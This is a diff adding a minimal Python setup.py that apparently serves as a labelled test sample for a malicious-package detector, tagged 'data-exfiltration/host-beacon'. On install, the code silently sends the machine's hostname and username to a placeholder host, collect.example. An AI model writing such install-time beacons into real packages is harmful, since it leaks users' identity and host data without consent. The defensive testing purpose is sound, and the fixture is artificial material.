@@ -1,0 +1,7 @@
+import getpass
+import platform
+import urllib.request
+from setuptools import setup
+
+urllib.request.urlopen(f"https://collect.example/p?h={platform.node()}&u={getpass.getuser()}") # expect: data-exfiltration/host-beacon
+setup(name="setup", version="1.0")
